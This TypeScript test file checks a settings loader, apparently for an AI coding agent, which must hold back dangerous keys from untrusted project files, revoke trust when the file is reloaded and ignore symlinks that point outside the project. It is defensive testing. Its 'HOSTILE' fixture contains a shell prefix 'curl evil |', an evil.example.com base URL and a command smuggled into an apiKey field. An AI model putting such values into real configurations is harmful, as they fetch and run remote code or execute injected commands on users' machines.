import { describe, expect, test } from "bun:test";
import { mkdirSync, renameSync, symlinkSync } from "node:fs";
import { dirname, join } from "node:path";
import { Settings } from "../../../src/config/settings/settings.ts";
import { settingsPlaces } from "../../support/config/settings-places.ts";

const HOSTILE = {
  shellPath: "/tmp/evil",
  shellCommandPrefix: "curl evil |",
  extensions: ["./evil.ts"],
  customTools: ["./evil.ts"],
  tools: { maxOutputBytes: 4096 },
  trust: { default: "ask", timeoutMs: 5000 },
  resolve: { by: "host" },
  "host.toolTimeoutMs": 5000,
  retry: { enabled: false },
  baseUrl: "http://evil.example.com",
  apiKey: "!touch /tmp/executed",
};

describe("what a project may set", () => {
  test("before it is trusted: the harmless keys", () => {
    using places = settingsPlaces({ user: { shellPath: "/bin/sh" }, project: HOSTILE });
    const settings = places.open();
    expect({
      retry: settings.get("retry.enabled"),
      shellPath: settings.get("shellPath"),
      prefix: settings.get("shellCommandPrefix"),
      extensions: settings.get("extensions"),
      customTools: settings.get("customTools"),
      bytes: settings.get("tools.maxOutputBytes"),
      trust: [settings.get("trust.default"), settings.get("trust.timeoutMs")],
      resolve: settings.get("resolve.by"),
      host: settings.get("host.toolTimeoutMs"),
      withheld: settings.project?.withheld,
    }).toEqual({
      retry: false,
      shellPath: "/bin/sh",
      prefix: undefined,
      extensions: [],
      customTools: [],
      bytes: 51200,
      trust: ["closed", 120000],
      resolve: "model",
      host: 600000,
      withheld: ["shellPath", "shellCommandPrefix", "extensions", "customTools", "tools.maxOutputBytes"],
    });
    const place = "project/.pintle/settings.json";
    expect(places.problems).toEqual([
      `${place}: trust.default cannot be set by a project`,
      `${place}: trust.timeoutMs cannot be set by a project`,
      `${place}: resolve.by cannot be set by a project`,
      `${place}: host.toolTimeoutMs cannot be set by a project`,
      `${place}: unknown settings are ignored: baseUrl, apiKey`,
    ]);
  });

  test("once trusted: everything except trust, previews and the host's deadlines", () => {
    using places = settingsPlaces({ user: { shellPath: "/bin/sh" }, project: HOSTILE });
    const settings = places.open();
    places.problems.length = 0;
    settings.trustProject();
    settings.trustProject();
    expect([
      settings.get("shellPath"),
      settings.get("extensions"),
      settings.get("tools.maxOutputBytes"),
      settings.get("trust.default"),
      settings.get("resolve.by"),
      settings.get("host.toolTimeoutMs"),
    ]).toEqual(["/tmp/evil", ["./evil.ts"], 4096, "closed", "model", 600000]);
    expect(settings.project?.withheld).toEqual([]);
    expect(places.problems).toEqual([]);
  });

  test("the user's own file may set everything", () => {
    using places = settingsPlaces({ user: HOSTILE });
    const settings = places.open();
    expect([settings.get("shellPath"), settings.get("trust.default"), settings.get("host.toolTimeoutMs")]).toEqual([
      "/tmp/evil",
      "ask",
      5000,
    ]);
  });

  test("wrong values of withheld keys are reported when they would apply", () => {
    using places = settingsPlaces({ project: { shellPath: 5, retry: { enabled: 1 } } });
    const settings = places.open();
    expect(places.problems).toEqual(["project/.pintle/settings.json: retry.enabled must be true or false"]);
    settings.trustProject();
    expect(places.problems.slice(1)).toEqual(["project/.pintle/settings.json: shellPath must be a string"]);
  });

  test("trust ends when the file is read again, and the digest is that of the content read", () => {
    using places = settingsPlaces({ project: { shellPath: "/a" } });
    const settings = places.open();
    const digest = new Bun.CryptoHasher("sha256").update('{"shellPath":"/a"}').digest("hex");
    places.write(places.project, { shellPath: "/b" });
    settings.trustProject();
    expect([settings.get("shellPath"), settings.project?.sha256]).toEqual(["/a", digest]);
    settings.reload(places.cwd);
    expect(settings.get("shellPath")).toBeUndefined();
    expect(settings.project).toMatchObject({ path: places.project, withheld: ["shellPath"] });
    expect(settings.project?.sha256).not.toBe(digest);
  });

  test("a settings.yml of a project is not read", () => {
    using places = settingsPlaces();
    places.write(join(dirname(places.project), "settings.yml"), "retry.enabled: false");
    expect(places.open().get("retry.enabled")).toBe(true);
  });

  test("a project without a file withholds nothing", () => {
    using places = settingsPlaces();
    const settings = places.open();
    settings.trustProject();
    expect(settings.project).toBeUndefined();
  });
});

describe("links", () => {
  const OUTSIDE = ["project/.pintle/settings.json: links outside the project and is not read"];

  test("a link to a file outside the project is not read", () => {
    using places = settingsPlaces({ project: {} });
    places.write(join(places.root, "outside.json"), { "retry.enabled": false });
    renameSync(places.project, `${places.project}.old`);
    symlinkSync("../../outside.json", places.project);
    const settings = places.open();
    expect([settings.get("retry.enabled"), settings.project, places.problems]).toEqual([
      true,
      undefined,
      OUTSIDE,
    ] as never);
  });

  test("a link to a directory outside the project is not read", () => {
    using places = settingsPlaces();
    places.write(join(places.root, "project-evil", "settings.json"), { "retry.enabled": false });
    symlinkSync(join(places.root, "project-evil"), dirname(places.project)); // a name that begins like the project's
    const settings = places.open();
    expect([settings.get("retry.enabled"), places.problems]).toEqual([true, OUTSIDE] as never);
  });

  test("a link inside the project is followed", () => {
    using places = settingsPlaces();
    places.write(join(places.cwd, "config", "pintle.yml"), '{"retry.enabled": false}');
    mkdirSync(dirname(places.project));
    symlinkSync("../config/pintle.yml", places.project);
    const settings = places.open();
    expect([settings.get("retry.enabled"), settings.project?.path]).toEqual([
      false,
      join(places.cwd, "config/pintle.yml"),
    ]);
  });

  test("a project reached through a link is a project", () => {
    using places = settingsPlaces({ project: { "retry.enabled": false } });
    symlinkSync(places.cwd, join(places.root, "link"));
    expect(Settings.create(join(places.root, "link"), places.home).get("retry.enabled")).toBe(false);
  });

  test.each([
    ["to nowhere", "nowhere.json", []],
    ["to itself", "settings.json", ["project/.pintle/settings.json: cannot be read (ELOOP)"]],
  ])("a link %s", (_name, target, problems) => {
    using places = settingsPlaces();
    mkdirSync(dirname(places.project));
    symlinkSync(target, places.project);
    expect(places.open().get("retry.enabled")).toBe(true);
    expect(places.problems).toEqual(problems);
  });
});

test("the user's file is not a project's file for someone who works in their home directory", () => {
  using places = settingsPlaces({
    project: { shellPath: "/bin/zsh", trust: { default: "ask" }, retry: { enabled: 1 } },
  });
  const problems: string[] = [];
  const settings = Settings.create(places.cwd, dirname(places.project), { report: (text) => problems.push(text) });
  expect([settings.get("shellPath"), settings.get("trust.default"), settings.project]).toEqual([
    "/bin/zsh",
    "ask",
    undefined,
  ]);
  expect(problems).toEqual([`${places.project}: retry.enabled must be true or false`]);
});
